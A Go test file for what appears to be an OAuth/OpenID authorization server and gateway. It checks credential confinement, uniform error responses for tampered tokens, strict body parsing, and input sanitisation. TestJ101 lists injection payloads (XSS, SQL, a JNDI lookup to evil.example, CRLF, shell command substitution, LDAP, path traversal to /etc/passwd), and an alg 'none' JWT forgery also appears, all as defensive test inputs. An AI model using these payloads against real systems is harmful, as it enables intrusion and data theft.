package web_test

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"sallyport/internal/gateway"
	"sallyport/internal/secret"
	"sallyport/internal/token"
)

// guarded puts a gateway with one API before a backend that answers with the
// credential that it got.
func (h *house) guarded() *gateway.Gateway {
	h.t.Helper()
	backend := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, r.Header.Get("Authorization"))
	}))
	h.t.Cleanup(backend.Close)
	upstream, err := url.Parse(backend.URL)
	if err != nil {
		h.t.Fatal(err)
	}
	proofs, err := token.NewProofs(token.ProofOptions{Ring: h.ring, Replay: token.NewReplayTable(0, h.clock.now), Now: h.clock.now})
	if err != nil {
		h.t.Fatal(err)
	}
	g, err := gateway.New(gateway.Options{
		Issuer: issuer, Ring: h.ring, Feed: h.feed, Proofs: proofs, Now: h.clock.now,
		APIs: []gateway.API{{
			Name: "catalog", Audience: "https://api.example.com/catalog", Path: "/catalog", Upstream: upstream, Tier: token.TierStandard,
			Operations: []gateway.Operation{{Method: "GET", Path: "/items/{id}", Scope: "catalog.read"}},
		}},
	})
	if err != nil {
		h.t.Fatal(err)
	}
	h.t.Cleanup(g.Close)
	return g
}

func callGateway(g http.Handler, scheme, credential string) *httptest.ResponseRecorder {
	r := httptest.NewRequest("GET", "/catalog/items/1", nil)
	r.Host = "api.example.com"
	r.Header.Set("Authorization", scheme+" "+credential)
	rec := httptest.NewRecorder()
	g.ServeHTTP(rec, r)
	return rec
}

// kinds returns one valid credential of every kind that there is, and JWTs of
// the kinds that we do not make but whose typ a reader might take for another.
func kinds(t *testing.T, h *house, g http.Handler) (*browser, map[string]string) {
	t.Helper()
	b := h.browser()
	tok := b.tokens()
	code := b.callback("client_id", "web", "prompt", "login").Get("code")
	text := func(name string) string { return tok[name].(string) }
	job := b.post("/oauth/token", b.credentials()).json(t)["access_token"].(string)
	login := b.get(authorizeURL("prompt", "login")).Header.Get("Location")
	_, form := b.form(b.loginPage("prompt", "login"))
	inner := callGateway(g, "Bearer", text("access_token"))
	if inner.Code != 200 {
		t.Fatalf("the gateway answers %d: %s", inner.Code, inner.Body)
	}
	now := b.clock.now().Unix()
	sign := func(p token.Purpose, typ string, change map[string]any) string {
		claims := map[string]any{
			"iss": issuer, "sub": b.user.ID, "aud": "https://api.example.com/catalog", "client_id": "web", "scope": "openid catalog.read",
			"iat": now, "exp": now + 60, "jti": "j", "acr": token.ACRPassword, "auth_time": now,
		}
		maps.Copy(claims, change)
		payload, err := json.Marshal(claims)
		if err != nil {
			t.Fatal(err)
		}
		jwt, err := b.ring.Signer(p).Sign(typ, payload)
		if err != nil {
			t.Fatal(err)
		}
		return jwt
	}
	return b, map[string]string{
		"access token": text("access_token"), "access token of a client": job, "refresh token": text("refresh_token"), "ID token": text("id_token"),
		"code": code, "pending sign-in": strings.TrimPrefix(login, "/login?flow="), "form token": form.Get("csrf"),
		"session": b.cookie("__Host-sallyport"), "browser": b.cookie("__Host-sallyport-browser"), "client secret": b.secret.Reveal(),
		"master key": secret.NewHandle(secret.MasterKey).Reveal(), "verifier": verifier, "password": password,
		"inner token": strings.TrimPrefix(inner.Body.String(), "Bearer "),

		"logout token":         sign(token.SignIDToken, "logout+jwt", map[string]any{"aud": "web", "events": map[string]any{"http://schemas.openid.net/event/backchannel-logout": map[string]any{}}}),
		"security event":       sign(token.SignIDToken, "secevent+jwt", map[string]any{"aud": "web"}),
		"client assertion":     sign(token.SignIDToken, "client-authentication+jwt", map[string]any{"iss": "web", "sub": "web", "aud": issuer}),
		"request object":       sign(token.SignIDToken, "oauth-authz-req+jwt", map[string]any{"iss": "web", "aud": issuer}),
		"introspection answer": sign(token.SignIDToken, "token-introspection+jwt", map[string]any{"aud": "rs", "token_introspection": map[string]any{"active": true}}),
		"answer as a JWT":      sign(token.SignIDToken, "JARM", map[string]any{"aud": "web", "code": "x"}),
		"DPoP proof":           sign(token.SignIDToken, token.TypeProof, map[string]any{"htm": "GET", "htu": "https://api.example.com/catalog/items/1"}),
		"inner token, ID key":  sign(token.SignIDToken, token.TypeInner, nil),
		"ID token, inner key":  sign(token.SignInner, token.TypeID, map[string]any{"aud": "web"}),
		"access token, ID key": sign(token.SignIDToken, token.TypeAccess, nil),
		"access token, inner":  sign(token.SignInner, token.TypeAccess, nil),
	}
}

// J092: every kind of credential at every place that takes one. It passes
// exactly where it belongs.
func TestJ092EachCredentialWhereItBelongs(t *testing.T) {
	h := newHouse(t, options{})
	g := h.guarded()
	b, all := kinds(t, h, g)
	client := func(more ...string) url.Values {
		v := url.Values{"client_id": {"web"}, "client_secret": {h.secret.Reveal()}}
		for i := 0; i < len(more); i += 2 {
			v.Set(more[i], more[i+1])
		}
		return v
	}
	ok := func(r reply) bool { return r.StatusCode == 200 }
	stranger := func() *browser { return h.browser() } // without cookies
	for _, place := range []struct {
		name  string
		takes []string
		try   func(credential string) bool
	}{
		{"J092 gateway, Bearer", []string{"access token", "access token of a client"}, func(c string) bool { return callGateway(g, "Bearer", c).Code == 200 }},
		{"J092 gateway, DPoP", nil, func(c string) bool { return callGateway(g, "DPoP", c).Code == 200 }},
		{"J092 userinfo", []string{"access token"}, func(c string) bool { return ok(stranger().get("/oauth/userinfo", "Authorization", "Bearer "+c)) }},
		{"J092 introspection by a resource server", []string{"access token", "access token of a client"}, func(c string) bool {
			return strings.Contains(stranger().post("/oauth/introspect", client("client_id", "rs", "token", c)).body, `"active":true`)
		}},
		{"J092 introspection by the client itself", []string{"access token", "refresh token"}, func(c string) bool {
			return strings.Contains(stranger().post("/oauth/introspect", client("token", c)).body, `"active":true`)
		}},
		{"J092 id_token_hint", []string{"ID token"}, func(c string) bool {
			return stranger().get("/oauth/logout?"+url.Values{"id_token_hint": {c}}.Encode()).StatusCode != 400
		}},
		{"J092 pending sign-in", []string{"pending sign-in"}, func(c string) bool { return ok(b.get("/login?" + url.Values{"flow": {c}}.Encode())) }},
		{"J092 session cookie", []string{"session"}, func(c string) bool {
			r := stranger().get(authorizeURL("client_id", "web", "prompt", "none"), "Cookie", "__Host-sallyport="+c)
			return strings.Contains(r.Header.Get("Location"), "code=")
		}},
		{"J092 client secret", []string{"client secret"}, func(c string) bool {
			return ok(stranger().post("/oauth/token", url.Values{"grant_type": {"client_credentials"}, "client_id": {"job"}, "client_secret": {c}}))
		}},
		{"J092 client assertion", nil, func(c string) bool {
			return ok(stranger().post("/oauth/token", url.Values{
				"grant_type": {"client_credentials"}, "client_id": {"web"}, "client_assertion": {c},
				"client_assertion_type": {"urn:ietf:params:oauth:client-assertion-type:jwt-bearer"},
			}))
		}},
		{"J092 assertion grant", nil, func(c string) bool {
			return ok(stranger().post("/oauth/token", client("grant_type", "urn:ietf:params:oauth:grant-type:jwt-bearer", "assertion", c)))
		}},
		{"J092 request object", nil, func(c string) bool {
			r := stranger().get(authorizeURL("client_id", "web", "request", c))
			return r.StatusCode < 400 && !strings.Contains(r.Header.Get("Location"), "error=")
		}},
		{"J092 request_uri", nil, func(c string) bool {
			r := stranger().get(authorizeURL("client_id", "web", "request_uri", c))
			return r.StatusCode < 400 && !strings.Contains(r.Header.Get("Location"), "error=")
		}},
		{"J092 refresh token", []string{"refresh token"}, func(c string) bool {
			return ok(stranger().post("/oauth/token", client("grant_type", "refresh_token", "refresh_token", c)))
		}},
		{"J092 code", []string{"code"}, func(c string) bool {
			return ok(stranger().post("/oauth/token", client("grant_type", "authorization_code", "code", c, "code_verifier", verifier, "redirect_uri", callback)))
		}},
	} {
		t.Run(place.name, func(t *testing.T) {
			for _, kind := range slices.Sorted(maps.Keys(all)) {
				h.clock.advance(11 * time.Second / 4) // so that guesses at secrets are not slowed down
				h.mustCatchUp()
				if all[kind] == "" {
					t.Fatalf("there is no %s to try", kind)
				}
				if got, want := place.try(all[kind]), slices.Contains(place.takes, kind); got != want {
					t.Errorf("%s: accepted: %v, want %v", kind, got, want)
				}
			}
		})
		// Tokens live for minutes, and the clock has moved.
		b, all = kinds(t, h, g)
	}
}

func (h *house) mustCatchUp() {
	h.t.Helper()
	if err := h.feed.CatchUp(h.t.Context()); err != nil {
		h.t.Fatal(err)
	}
}

// wrongTokens are tokens that are wrong in one way each, and nearly right in
// all others.
func wrongTokens(t *testing.T, h *house) map[string]string {
	t.Helper()
	now := h.clock.now()
	good := token.Access{
		GrantID: secret.NewID(now), Serial: secret.NewID(now), ClientID: "shop", Subject: h.user.ID, Audience: "https://api.example.com/catalog",
		Scope: "openid catalog.read", IssuedAt: now.Unix(), Lifetime: 600, AuthTime: now.Unix(), ACR: token.ACRPassword, Tier: token.TierStandard,
	}
	seal := func(ring *token.Ring, change func(*token.Access)) string {
		a := good
		change(&a)
		v, err := ring.SealAccess(&a)
		if err != nil {
			t.Fatal(err)
		}
		return v.Reveal()
	}
	whole := seal(h.ring, func(*token.Access) {})
	raw, err := secret.Decode(secret.AccessToken, whole)
	if err != nil {
		t.Fatal(err)
	}
	wrong := map[string]string{
		"garbage": "x", "not a handle": "spat_x", "a handle over nothing": secret.Encode(secret.AccessToken, nil).Reveal(), "random": secret.NewHandle(secret.AccessToken).Reveal(),
		"another ring": seal(newHouse(t, options{}).ring, func(*token.Access) {}), "checksum": whole[:len(whole)-1] + "?",
		"expired": seal(h.ring, func(a *token.Access) { a.IssuedAt -= 601 }),
		"JWT":     "eyJhbGciOiJub25lIn0.e30.", "kid unknown": flipAt(raw, 1), "version": flipAt(raw, 0), "nonce": flipAt(raw, 10), "ciphertext": flipAt(raw, 40), "MAC": flipAt(raw, len(raw)-1),
		"cut": secret.Encode(secret.AccessToken, raw[:len(raw)-1]).Reveal(),
	}
	return wrong
}

// flipAt is an access token of which one bit has been changed, and the
// checksum with it.
func flipAt(raw []byte, at int) string {
	b := bytes.Clone(raw)
	b[at] ^= 1
	return secret.Encode(secret.AccessToken, b).Reveal()
}

// TestJ024KY12: whatever is wrong with a token, the answer is the same to the
// byte, so that nobody learns which check failed, and with it how to pass it.
func TestJ024KY12ProtocolFailuresLookAlike(t *testing.T) {
	h := newHouse(t, options{})
	b := h.browser()
	g := h.guarded()
	wrong := wrongTokens(t, h)
	alike := func(name string, ask func(string) (int, http.Header, string)) {
		t.Run("J024 "+name, func(t *testing.T) {
			first := ""
			for _, kind := range slices.Sorted(maps.Keys(wrong)) {
				status, header, body := ask(wrong[kind])
				header = header.Clone()
				header.Del("Date")
				header.Del("X-Request-Id")
				got := fmt.Sprint(status, header, body)
				if first == "" {
					first = got
				}
				if got != first {
					t.Errorf("%s is answered differently:\n%s\n%s", kind, got, first)
				}
			}
		})
	}
	read := func(r reply) (int, http.Header, string) { return r.StatusCode, r.Header, r.body }
	alike("introspection", func(c string) (int, http.Header, string) {
		return read(b.post("/oauth/introspect", url.Values{"client_id": {"rs"}, "client_secret": {h.secret.Reveal()}, "token": {c}}))
	})
	alike("userinfo", func(c string) (int, http.Header, string) {
		return read(b.get("/oauth/userinfo", "Authorization", "Bearer "+c))
	})
	alike("revocation", func(c string) (int, http.Header, string) {
		return read(b.post("/oauth/revoke", url.Values{"client_id": {"shop"}, "token": {c}}))
	})
	delete(wrong, "checksum") // the gateway calls what has such letters no token at all
	alike("gateway", func(c string) (int, http.Header, string) {
		rec := callGateway(g, "Bearer", c)
		return rec.Code, rec.Header(), rec.Body.String()
	})
	tok := b.tokens()
	refresh, hint := tok["refresh_token"].(string), tok["id_token"].(string)
	raw, err := secret.Decode(secret.RefreshToken, refresh)
	if err != nil {
		t.Fatal(err)
	}
	wrong = map[string]string{"random": secret.NewHandle(secret.RefreshToken).Reveal(), "garbage": "x", "access token": tok["access_token"].(string)}
	for _, at := range []int{0, 8, 16, 20, len(raw) / 2, len(raw) - 1} {
		changed := bytes.Clone(raw)
		changed[at] ^= 1
		wrong[fmt.Sprintf("byte %d", at)] = secret.Encode(secret.RefreshToken, changed).Reveal()
	}
	alike("refresh token", func(c string) (int, http.Header, string) {
		return read(b.post("/oauth/token", url.Values{"grant_type": {"refresh_token"}, "client_id": {"web"}, "client_secret": {h.secret.Reveal()}, "refresh_token": {c}}))
	})
	parts := strings.Split(hint, ".")
	wrong = map[string]string{
		"signature": parts[0] + "." + parts[1] + "." + strings.Repeat("A", len(parts[2])), "no signature": parts[0] + "." + parts[1] + ".", "garbage": "x",
		"none": base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"none"}`)) + "." + parts[1] + ".", "claims": parts[0] + ".e30." + parts[2],
		"kid": base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"ES256","kid":"x","typ":"JWT"}`)) + "." + parts[1] + "." + parts[2],
	}
	alike("ID token hint", func(c string) (int, http.Header, string) {
		r := b.get("/oauth/logout?" + url.Values{"id_token_hint": {c}}.Encode())
		return r.StatusCode, http.Header{}, shortIDs.ReplaceAllString(r.body, "")
	})
}

// J073: a body is read in one way, or not at all.
func TestJ073TheBodyIsReadInOneWay(t *testing.T) {
	h := newHouse(t, options{})
	b := h.browser()
	tok := b.post("/oauth/token", h.credentials()).json(t)["access_token"].(string)
	client := url.Values{"client_id": {"rs"}, "client_secret": {h.secret.Reveal()}}.Encode()
	var zipped bytes.Buffer
	w := gzip.NewWriter(&zipped)
	_, _ = io.WriteString(w, client+"&token="+tok)
	_ = w.Close()
	for _, tt := range []struct {
		name, body, encoding string
		status               int
		active               bool
	}{
		{"once", client + "&token=" + tok, "", 200, true},
		{"name percent-encoded", client + "&tok%65n=" + tok, "", 200, true},
		{"J073 twice", client + "&token=" + tok + "&token=x", "", 400, false},
		{"J073 twice, once percent-encoded", client + "&token=" + tok + "&tok%65n=x", "", 400, false},
		{"J073 twice, once encoded twice is another name", client + "&token=" + tok + "&tok%2565n=x", "", 200, true},
		{"J073 value encoded twice is another value", client + "&token=" + strings.ReplaceAll(url.QueryEscape(tok), "_", "%255F"), "", 200, false},
		{"J073 semicolons are no separators", client + "&token=x;token=" + tok, "", 400, false},
		{"J073 gzip", zipped.String(), "gzip", 415, false},
		{"J073 gzip by name alone", client + "&token=" + tok, "gzip", 415, false},
		{"J073 deflate", zipped.String(), "deflate", 415, false},
		{"J073 identity is an encoding too", client + "&token=" + tok, "identity", 415, false},
		{"J073 gzip without a word", zipped.String(), "", 400, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			req := b.request("POST", "/oauth/introspect", tt.body)
			if tt.encoding != "" {
				req.Header.Set("Content-Encoding", tt.encoding)
			}
			r := b.do(req)
			wantStatus(t, r, tt.status)
			if got := strings.Contains(r.body, `"active":true`); got != tt.active {
				t.Errorf("active: %v, want %v: %s", got, tt.active, r.body)
			}
		})
	}
}

// J101: what a claim or a parameter says is data, wherever it goes.
func TestJ101ValuesAreDataEverywhere(t *testing.T) {
	for _, evil := range []string{
		`"><script>alert(1)</script>`, `' OR '1'='1' --`, `{{.}}{{printf "%s" "x"}}`, "${jndi:ldap://evil.example/a}", "a\r\nSet-Cookie: x=1", "$(id)`id`;id|id",
		`*)(uid=*))(|(uid=*`, "javascript:alert(1)", "%s%n%x", "\u2028\u202e", `\"},{"level":"ERROR"`, "../../etc/passwd",
	} {
		t.Run("J101 "+evil, func(t *testing.T) {
			h := newHouse(t, options{})
			b := h.browser()
			v := url.Values{"client_id": {evil}, "scope": {evil}, "state": {evil}, "login_hint": {evil}, "prompt": {evil}, "nonce": {evil}}
			pages := []reply{b.get("/oauth/authorize?" + v.Encode()), b.follow(b.get(authorizeURL("state", evil, "login_hint", evil, "nonce", evil)))}
			pages = append(pages, b.submit(pages[1], "username", evil, "password", evil), b.get("/"+url.PathEscape(evil)), b.get("/login?flow="+url.QueryEscape(evil)))
			pages = append(pages, b.post("/oauth/token", url.Values{"grant_type": {evil}, "client_id": {evil}, "scope": {evil}, "code": {evil}}),
				b.get("/oauth/userinfo", "User-Agent", strings.Map(printable, evil), "Authorization", "Bearer "+strings.Map(printable, evil)))
			for _, r := range pages {
				if r.StatusCode >= 500 {
					t.Errorf("%s: status %d", r.Request.URL.Path, r.StatusCode)
				}
				if len(r.Header.Values("Set-Cookie")) > 0 && strings.Contains(strings.Join(r.Header.Values("Set-Cookie"), "\n"), "x=1") || strings.ContainsAny(r.Header.Get("Location"), "\r\n<\"") {
					t.Errorf("a header was made from it: %v", r.Header)
				}
				if strings.ContainsAny(evil, `<>"'`) && strings.Contains(r.Header.Get("Content-Type"), "html") && strings.Contains(r.body, evil) {
					t.Errorf("%s has it as it is:\n%s", r.Request.URL.Path, r.body)
				}
			}
			for _, m := range h.lines() { // each line is one JSON object, made by us
				if m["msg"] != "request" || m["level"] != "INFO" {
					t.Errorf("a line was made from it: %v", m)
				}
			}
			users, err := h.accounts.Users(t.Context())
			if err != nil || len(users) != 1 {
				t.Errorf("the people are %v, %v", users, err)
			}
			// The pair: the same browser signs in.
			if b.callback("prompt", "login").Get("code") == "" {
				t.Error("nobody can sign in any more")
			}
		})
	}
}

// shortIDs are what a page says to look for in the log.
var shortIDs = regexp.MustCompile(`<code id="reference">\w+</code>`)

func printable(c rune) rune {
	if c < ' ' || c > '~' {
		return '.'
	}
	return c
}
